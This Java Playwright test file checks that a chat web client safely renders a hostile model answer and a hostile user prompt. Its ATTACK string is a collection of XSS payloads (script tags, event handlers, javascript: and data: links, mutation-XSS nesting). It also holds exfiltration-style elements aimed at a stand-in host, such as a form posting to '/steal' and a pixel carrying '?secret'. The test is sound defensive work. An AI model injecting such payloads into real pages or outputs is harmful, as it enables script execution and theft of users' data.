package dev.durachat.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.microsoft.playwright.Locator;
import org.junit.jupiter.api.Test;

/**
 * A model may say anything. None of it runs, and none of it makes the browser call anyone: the
 * pages of all tests are watched for dialogs, errors and foreign requests.
 */
final class HostileAnswerTest extends BrowserTest {
  private static final String ATTACK =
      """
      <script>window.ran = 1; alert(1)</script>

      <img src=x onerror="window.ran = 2; alert(2)">

      <svg onload="window.ran = 3"><script>window.ran = 4</script></svg>

      <iframe src="https://example.org/frame" srcdoc="<script>parent.ran = 5</script>"></iframe>

      <a href="javascript:window.ran = 6">raw link</a> [a link](javascript:window.ran=7)
      [another](data:text/html,<script>window.ran=8</script>) [vb](vbscript:ran)

      ![a picture](https://example.org/pixel.png?secret) ![local](/api/v1/me)

      <div style="position:fixed;inset:0;background:url(https://example.org/style.png)">over all</div>

      <style>body { display: none }</style><link rel="stylesheet" href="https://example.org/a.css">

      <form action="https://example.org/steal"><input name="key"><button>Send</button></form>

      <details open ontoggle="window.ran = 9"><summary>more</summary></details>
      <math><mtext><table><mglyph><style><img src=x onerror="window.ran = 10"></style></mglyph></table></mtext></math>
      <a href="https://example.org/" id="prompt" name="body" onclick="window.ran = 11">fine</a>
      <meta http-equiv="refresh" content="0;url=https://example.org/"><base href="https://example.org/">

      ```html
      <script>window.ran = 12</script>
      ```

      | <img src=x onerror=alert(13)> | `<b>` |
      | --- | --- |
      | [x](JaVaScRiPt:alert(14)) | <http://example.org> |

      [&#106;avascript](&#106;avascript:window.ran=15) The end.
      """;

  @Test
  void anAnswerRunsNothingAndCallsNobody() {
    ChatPage page = open().ask("Attack me");
    var call = provider.call();
    for (int at = 0; at < ATTACK.length(); at += 7) {
      call.text(ATTACK.substring(at, Math.min(ATTACK.length(), at + 7)));
    }
    call.finish("stop");
    page.replyIs("complete");
    assertThat(page.replyText()).containsText("The end.");
    assertHarmless(page);

    page.page().reload();
    page.connected();
    assertThat(page.replyText()).containsText("The end.");
    assertHarmless(page);
  }

  @Test
  void aPromptIsShownAsItWasTyped() {
    ChatPage page = open().ask("<img src=x onerror=alert(1)> **bold**");
    provider.call().text("ok").finish("stop");
    page.replyIs("complete");
    assertThat(page.messages("user")).hasText("<img src=x onerror=alert(1)> **bold**");
    assertHarmless(page);
  }

  private static void assertHarmless(ChatPage page) {
    assertEquals("undefined", page.page().evaluate("typeof window.ran"));
    Locator log = page.log();
    assertThat(log.locator("script, iframe, style, link, form, input, object, embed, meta, base"))
        .hasCount(0);
    assertThat(log.locator("img:not([src^='data:']):not([src^='/'])")).hasCount(0);
    assertThat(log.locator("markdown-text [style]")).hasCount(0);
    assertEquals(
        0,
        log.locator("a")
            .evaluateAll(
                "links => links.filter(a => a.hasAttribute('href')"
                    + " && !/^(https?|mailto):$/.test(a.protocol)).length"));
    assertEquals(
        0,
        log.locator("*")
            .evaluateAll(
                "all => all.filter(e => [...e.attributes]"
                    + ".some(a => a.name.startsWith('on'))).length"));
  }
}
